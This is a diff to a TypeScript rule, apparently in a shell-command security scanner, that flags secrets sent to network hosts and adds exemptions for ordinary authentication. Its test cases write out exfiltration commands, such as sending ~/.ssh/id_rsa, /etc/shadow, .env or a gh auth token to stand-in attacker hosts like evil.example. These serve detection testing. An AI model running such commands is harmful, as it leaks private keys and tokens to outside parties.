@@ -2,7 +2,9 @@
  * SEC-AST-010: a secret flows to a network sink: a credential or key file, the whole environment
  * (env, printenv, /proc/self/environ) or a secret-named variable sent with curl -d/-F/-T, wget
  * --post-*, nc, scp/rsync to a remote. A provider token sent to its own provider (GITHUB_TOKEN to
- * api.github.com) is how it is meant to be used and is allowed.
+ * api.github.com) is how it is meant to be used and is allowed, and so is a credential in the request's
+ * auth slot (-u, Authorization header) when it is a variable sent over https or a CLI-printed token
+ * sent to its issuer (gh → GitHub, gcloud → googleapis.com).
  */
 import { posix } from 'node:path';
 import type { DataSource } from '../../facts.js';
@@ -40,6 +42,25 @@ const PROVIDERS: readonly [RegExp, RegExp][] = [
   [/^DOCKER(?:HUB)?_/, /(?:^|\.)docker\.(?:io|com)$/],
   [/^SONAR_/, /(?:^|\.)sonarcloud\.io$/],
 ];
+
+/** Token-printing CLIs → the hosts that issued the token and accept it. */
+const ISSUERS: Readonly<Record<string, RegExp>> = {
+  gh: /(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io)$/,
+  gcloud: /(?:^|\.)googleapis\.com$/,
+  az: /(?:^|\.)(?:azure\.com|microsoft\.com|windows\.net)$/,
+  doctl: /(?:^|\.)digitalocean\.com$/,
+  aws: /(?:^|\.)amazonaws\.com$/,
+};
+
+/**
+ * A credential in the request's auth slot (curl -u, an Authorization header) used as intended:
+ * a named variable sent over https, or a CLI-printed token sent to the service that issued it.
+ */
+function isOrdinaryAuth(source: DataSource, host: string, url: string | undefined): boolean {
+  if (source.kind === 'env') return source.name !== undefined && /^https:\/\//i.test(url ?? '');
+  if (source.kind === 'output') return ISSUERS[source.program]?.test(host) ?? false;
+  return false;
+}
 
 const ENV_DUMPERS = new Set(['env', 'printenv', 'set', 'export', 'declare', 'compgen']);
 const TOKEN_PRINTERS = /^(?:aws|gcloud|az|gh|vault|kubectl|security|op|bw|doctl)$/;
@@ -79,6 +100,7 @@ export default defineRule({
       if (f.to.kind !== 'net') continue;
       const host = classifyHost(f.to.host);
       if (isLoopbackLike(host)) continue;
+      if (f.to.auth === true && isOrdinaryAuth(f.from, host.host, f.to.url)) continue;
       const what = secretSource(f.from, host.host, policy);
       if (what === null) continue;
       seen.add(f.span.start);
@@ -118,11 +140,22 @@ export default defineRule({
       { input: 'scp ~/.ssh/id_rsa attacker@203.0.113.7:/tmp/' },
       { input: 'curl --data-binary @.env https://x.example/u' },
       { input: 'wget --post-file=/etc/shadow https://x.example/u' },
+      { input: 'curl -H "X: $(cat ~/.ssh/id_rsa)" https://evil.example' },
+      { input: 'curl -H "Authorization: Bearer $(gh auth token)" https://evil.example/c' },
+      { input: 'curl -u "me:$API_TOKEN" http://203.0.113.7/c' },
     ],
     allow: [
       {
         input: 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
         why: 'a GitHub token sent to GitHub',
+      },
+      {
+        input: 'curl -u "me:$API_TOKEN" https://api.example.com/v1/items',
+        why: 'a variable used as https credentials',
+      },
+      {
+        input: 'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user',
+        why: 'a gh-issued token sent to GitHub',
       },
       { input: 'curl -d @payload.json https://api.example.com/items', why: 'an ordinary data file' },
       { input: 'curl -d "name=$USER" http://localhost:3000/hello', why: 'not a secret and sent to loopback' },
